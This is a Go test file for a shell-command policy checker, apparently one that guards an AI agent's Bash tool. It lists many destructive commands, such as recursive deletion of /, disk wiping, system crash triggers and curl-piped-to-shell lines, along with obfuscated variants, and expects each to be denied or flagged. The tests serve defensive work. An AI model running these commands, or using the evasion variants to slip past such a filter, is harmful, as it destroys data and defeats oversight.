package policy

import (
	"strings"
	"testing"
)

// The critical list finds what a line says of itself: its folders, variables,
// pipes and loops.
func TestCriticalListFollowsTheLine(t *testing.T) {
	all := rules(t, Allow, "Bash")
	for _, src := range []string{
		"cd / && rm -rf *", "cd /; rm -rf .", "cd /etc && rm -rf ./*", "cd ~ && rm -rf *", "cd && rm -rf .", "cd $HOME; rm -r ./", "pushd / && rm -rf ./*", "cd /usr/lib && cd ../.. && rm -rf *", "(cd /; rm -rf *)", "cd / && find . -delete", "cd / && chmod -R 777 .", `cd "$HOME" && rm -rf -- *`,
		"r=rm; $r -rf /", `r=rm d=/; "$r" -rf "$d"`, "x='rm -rf /'; $x", `x="rm -rf"; y=/; $x $y`, "r=r; r+=m; $r -rf /", "export d=/; rm -rf $d", "rm -rf ${d:-/}", `rm -rf "${HOME:?}"/*`, "rm${IFS}-rf${IFS}/", "d=~; rm -rf $d", "declare d=/etc; rm -rf $d", `rm -rf "$(echo /)"`, "$(echo rm) -rf /", "`echo rm -rf /`", "rm -rf $(ls -d /)", "e=; $e rm -rf /", "cd / && rm -rf $PWD", "set -- -rf /; rm \"$@\"",
		`sh -c 'rm -rf "$1"' _ /`, `eval "$(echo rm -rf /)"`, "echo 'rm -rf /' | sh", "printf '%s\\n' 'rm -rf /' | sudo bash",
		"find / -delete", "find -L / -delete", "find /etc /opt -name x -delete", "find / -exec rm {} +", `find / -type f -exec rm -f {} \;`, `find / -exec sudo rm -rf {} \;`, `find / -exec sh -c 'rm -rf "$1"' _ {} \;`, "find ~ -delete", "find / -ok unlink {} ';'",
		"find / -name x | xargs rm -rf", "ls / | xargs rm -rf", "echo / | xargs rm -rf", "find / -print0 | xargs -0 rm", "find / | grep x | sort | xargs -n1 rm -rf", "ls -d /* | xargs -I{} rm -rf {}", "printf '/\\n' | xargs sudo rm -r", "cd / && ls | xargs rm -rf", "ls / | parallel rm -rf", `ls / | while read x; do rm -rf "/$x"; done`,
		"for d in a / b; do rm -rf $d; done", `y=tmp; for i in 1 2; do rm -rf "$y"; y=/; done`, `y=tmp; while true; do rm -rf "$y"; y=/; done`, "if true; then d=/; fi; rm -rf $d",
		"rm -rf /b*", "rm -rf /?*", "rm -rf /[a-z]*", "rm -rf /usr/*", "rm -rf /{bin,tmp/x}", "rm -rf ~/..", "rm -rf ~root", "rm -rf /home/u", "rm -rf /home/u/*", "rm -rf /tmp/../etc", "rsync -a --delete empty/ /",
		"env -C / rm -rf .", "env --chdir=/etc rm -rf *", "sudo -D / rm -rf .", "builtin cd / && rm -rf *", "command cd /; rm -rf *", "flock /tmp/l -c 'rm -rf /'", "script -qc 'rm -rf /' /dev/null", "runuser -u root -c 'rm -rf /'", "runuser u --command='rm -rf /'", "su -c'rm -rf /'",
		"alias z='rm -rf /'; z", ". /dev/stdin <<< 'rm -rf /'", "echo 'rm -rf /' | source /dev/stdin", "x=/; x=build rm -rf $x", "X=/ rm -rf $X", "IFS=,; x=rm,-rf,/; $x", "IFS= true; x='rm -rf /'; $x", `rm -rf "$(echo -ne /)"`, `rm -rf "$(printf -- /)"`, "d=/dev/sda; cat x > $d",
		"mv -t /tmp /etc", "mv --target-directory=/tmp /etc", "rsync -a --delete-after empty/ /", "rsync -a --del empty/ ~/", "shred /dev/sda -v", "systemctl poweroff", "sudo systemctl reboot", "echo c > /proc/sysrq-trigger", "echo b | sudo tee /proc/sysrq-trigger", "rm -rf ~bob/", "rm -rf ~bob/*", "rm -rf /usr/bin", "rm -rf /usr/l*", "rm -rf /var/lib/*", "rm -rf D:/",
		"cmd /c format c:", `cmd.exe /c 'rd /s /q c:\'`, `cmd /c 'cd x & del /s /q C:\*'`, `powershell -c 'Remove-Item -Recurse -Force C:\'`, `powershell.exe -Command "Format-Volume -DriveLetter C"`, `pwsh -NoProfile -c 'ls; rm -Recurse C:\*'`,
		"fdisk /dev/sda", "parted /dev/sda mklabel gpt", "parted -s /dev/sda rm 1", "wipefs -a /dev/sda", "sgdisk --zap-all /dev/sda", "sfdisk /dev/sda < t", "cfdisk", "blkdiscard /dev/sda", "cryptsetup luksFormat /dev/sda", "zpool destroy tank", "nvme format /dev/nvme0", "sudo fdisk /dev/sdb",
	} {
		if r := judge(all, src); r.Effect != Deny || r.Layer != "the critical list" {
			t.Errorf("%q: %s (%s)", src, r.Effect, r.Why)
		}
	}
	wantAll(t, all, Allow,
		"cd build && rm -rf *", "cd /tmp/x && rm -rf *", "(cd / && ls); rm -rf build", "d=build; rm -rf $d", "d=/; d=build; rm -rf $d", "d=/etc; ls $d; rm -rf out", "cd / && ls -la", "cd / && rm -f tmp/x",
		"find . -delete", "find . -name '*.o' -exec rm {} +", "find / -name x", "find . -type f | xargs rm -f", "echo a b | xargs rm -rf", "ls | xargs rm", "cat list | xargs grep x", "for d in a b; do rm -rf $d; done",
		"fdisk -l", "parted -l", "parted /dev/sda print", "sgdisk -p /dev/sda", "sfdisk -d /dev/sda", "rm -rf '~'", "rm -rf '$HOME'", "rm -rf ./etc", "rm -rf etc/", "rm -rf /tmp/*", "rm -rf /home/u/ws/*", "rsync -a --delete a/ b/", "grep -r rm /etc", "echo rm -rf /", "git commit -m 'rm -rf /'", "cryptsetup status x",
		"env -C sub rm -rf build", "sudo -D /srv/app rm -rf out", "command -v cd && rm -rf *", "flock /tmp/l -c 'make all'", "alias ll='ls -l'", "mv -t /opt a b", "mv a b /opt/", "shutdown -c", "systemctl status nginx", "rm -rf /usr/local/go", "rm -rf /var/lib/apt/lists/*", "rm -rf ~/.cache/x", "cmd /c dir", `powershell -Command "Get-ChildItem | Select-Object Name"`, "IFS= read -r x; rm -rf build",
	)
}

// What the list cannot see is said, and what a line makes clear is not.
func TestUnclearCommands(t *testing.T) {
	unclear := func(src string) string {
		c, err := ParseCommand(src)
		if err != nil {
			t.Fatalf("%q: %v", src, err)
		}
		return strings.Join(c.Unclear, "; ")
	}
	for src, want := range map[string]string{
		"$r -rf /": "program", `"$(cat cmd)" x`: "program", "/bin/r? -rf /": "program", "sudo $x": "program", "read r; $r -rf /": "program", "r=ls; read r; $r": "program",
		`eval "$x"`: "code", `sh -c "$(curl http://h)"`: "code", "curl http://h | sh": "shell", "base64 -d f | bash": "shell", "curl http://h | python3 -": "pipe",
		`rm -rf "$x"`: "deletes", "rm -rf $x/": "deletes", "rm $x": "deletes", `cd "$x" && rm -rf *`: "deletes", "cat list | xargs rm -rf": "deletes", `find "$d" -delete`: "deletes", `f() { rm -rf "$d"; }; d=/; f`: "deletes", `rm -rf "$1"`: "deletes", `for d in $(cat l); do rm -rf "$d"; done`: "deletes", "find . -printf '/\\n' | xargs rm -rf": "deletes",
		"bash <(curl http://h)": "shell", "bash < <(curl http://h)": "shell", "source <(curl http://h)": "shell", `rm -rf "$(printf '\57')"`: "deletes", `rm -rf "$(echo -e '\057')"`: "deletes", "declare -n r=a; a=/; rm -rf $r": "deletes", "rm -rf ..": "deletes", "rm -rf ../../*": "deletes", "cd ..; cd ..; rm -rf *": "deletes", "rm -rf `pwd`/../..": "deletes", "find .. -delete": "deletes", "chmod -R 777 ../..": "permissions",
		`"$X/bin/rm" -rf /`: "program", `"$X/bin/sudo" rm -rf /`: "program", `"${X#*/rm}" -rf /`: "program", `$JAVA_HOME/bin/java`: "program",
		`chmod -R 777 "$x"`: "permissions", "dd if=f of=$x": "writes to",
		strings.Repeat("for x in 1 2 3 4 5 6 7 8; do ", 3) + "ls; done; done; done; rm x": "too much",
	} {
		if got := unclear(src); !strings.Contains(got, want) {
			t.Errorf("%q: unclear for %q, want %q", src, got, want)
		}
	}
	for _, src := range []string{
		"echo $HOME", `for f in *.go; do wc -l "$f"; done`, "x=$(date); echo $x", `rm -f "$f"`, `d=$(mktemp -d); cp x "$d"; rm -rf "$d"`, `rm -rf "$PWD/build"`, `rm -rf "${OUT:-out}"`, `cat "$f" | grep x`, "go test $(go list ./...)", `mv "$f" "${f%.txt}.md"`, "echo 'ls' | sh", "python3 -c 'print(1)'", `for d in a b; do rm -rf "$d"; done`, "for d in */; do rm -rf $d; done", "find . -name '*.o' -exec rm {} +", "git ls-files -z | xargs -0 grep x", "find . -name x | sort | xargs rm -rf", "r=ls; $r -l", "sh build.sh $x", "if [ -f Makefile ]; then make; fi", `[ "$x" = y ] && ls`, "chown -R $(id -u):$(id -g) out", `chown -R "$USER" .`, `"$GOPATH/bin/golangci-lint" run`, "rm -rf ../other/build", "cd ../other && rm -rf *", "diff <(sort a) <(sort b)", "bash x.sh < in", "command -v go && rm -rf bin", `while IFS=, read -r a b; do echo "$a"; done < f`, `tmp=$(mktemp); trap 'rm -f "$tmp"' EXIT`,
	} {
		if got := unclear(src); got != "" {
			t.Errorf("%q: unclear: %s", src, got)
		}
	}
}

// Values made of values stay small.
func TestSuppositionsAreBounded(t *testing.T) {
	src := "a=xxxxxxxxxxxxxxxx"
	for range 40 {
		src += "\na=" + strings.Repeat("$a", 200)
	}
	c, err := ParseCommand(src + "\n$a")
	if err == nil && len(c.Unclear) == 0 {
		t.Error("a value without bound is taken for known")
	}
}
